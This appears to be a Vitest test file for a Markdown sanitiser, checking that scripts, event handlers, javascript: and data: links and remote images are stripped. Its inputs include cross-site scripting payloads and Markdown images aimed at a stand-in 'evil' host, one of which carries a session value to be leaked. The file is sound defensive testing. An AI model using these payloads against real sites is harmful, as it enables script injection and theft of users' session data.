// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderSafeMarkdown, safeHref } from './safe-markdown';

/** Renders into a detached element, as the page would, and returns it for inspection. */
function rendered(markdown: string): HTMLElement {
  const element = document.createElement('div');
  element.innerHTML = renderSafeMarkdown(markdown);
  return element;
}

/** Every attribute in the tree, as name=value. */
function attributes(element: HTMLElement): string[] {
  return [...element.querySelectorAll('*')].flatMap((node) => [...node.attributes].map((a) => `${a.name}=${a.value}`));
}

describe('renderSafeMarkdown', () => {
  it('keeps ordinary Markdown: emphasis, lists, code', () => {
    const html = rendered('**Article 21** protects *life*.\n\n- one\n- two\n\n`code`');
    expect(html.querySelector('strong')?.textContent).toBe('Article 21');
    expect(html.querySelectorAll('li')).toHaveLength(2);
    expect(html.querySelector('code')?.textContent).toBe('code');
  });

  it('shows a script tag as text and never creates the element', () => {
    const html = rendered('Before\n\n<script>alert(1)</script>\n\nand inline <script>alert(2)</script> too');
    expect(html.querySelector('script')).toBeNull();
    expect(html.textContent).toContain('<script>alert(1)</script>');
    expect(html.textContent).toContain('<script>alert(2)</script>');
  });

  it('neutralises HTML with event handlers (onerror, onclick)', () => {
    const html = rendered('x <img src=x onerror="alert(1)"> y\n\n<div onclick="steal()">click</div>\n\n<a href="javascript:alert(1)">a</a>');
    expect(html.querySelector('img, div, a')).toBeNull();
    expect(attributes(html).filter((a) => /^on/i.test(a))).toEqual([]);
    expect(html.textContent).toContain('onerror="alert(1)"');
  });

  it('drops remote images entirely, keeping only their alt text (no request ever leaves)', () => {
    const html = rendered('Look: ![x](https://evil/?d=secret-session) and ![chart](http://evil/c.png "t")');
    expect(html.querySelector('img')).toBeNull();
    expect(html.innerHTML).not.toContain('evil');
    expect(html.textContent?.trim()).toBe('Look: x and chart');
  });

  it('turns javascript:, data: and other non-http links into plain text', () => {
    const html = rendered(
      '[a](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c](javascript&#58;alert(1)) [d](data:text/html,hi) [e](vbscript:x) [f](/relative)\n\n[g][ref]\n\n[ref]: javascript:alert(1)',
    );
    expect(html.querySelector('a')).toBeNull();
    expect(html.innerHTML.toLowerCase()).not.toContain('javascript:');
    expect(html.textContent).toContain('a b c d e f');
  });

  it('keeps http(s) links, opening in a new tab without opener or referrer', () => {
    const html = rendered('See [the Constitution](https://legislative.gov.in/constitution-of-india "Text") and <https://example.org/a?b=1&c=2>');
    const links = [...html.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://legislative.gov.in/constitution-of-india', 'https://example.org/a?b=1&c=2']);
    for (const link of links) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    }
    expect(links[0]!.getAttribute('title')).toBe('Text');
  });

  it('does not let an image hide inside a link', () => {
    const html = rendered('[![badge](https://evil/track.png)](https://example.org)');
    expect(html.querySelector('img')).toBeNull();
    expect(html.querySelector('a')?.textContent).toBe('badge');
  });
});

describe('safeHref', () => {
  it('accepts only absolute http(s) URLs', () => {
    expect(safeHref('https://example.org')).toBe('https://example.org/');
    expect(safeHref(' http://example.org/x ')).toBe('http://example.org/x');
    for (const bad of ['javascript:alert(1)', 'data:text/html,x', 'mailto:a@b.c', '/path', '//evil.example', 'not a url'])
      expect(safeHref(bad)).toBeNull();
  });
});
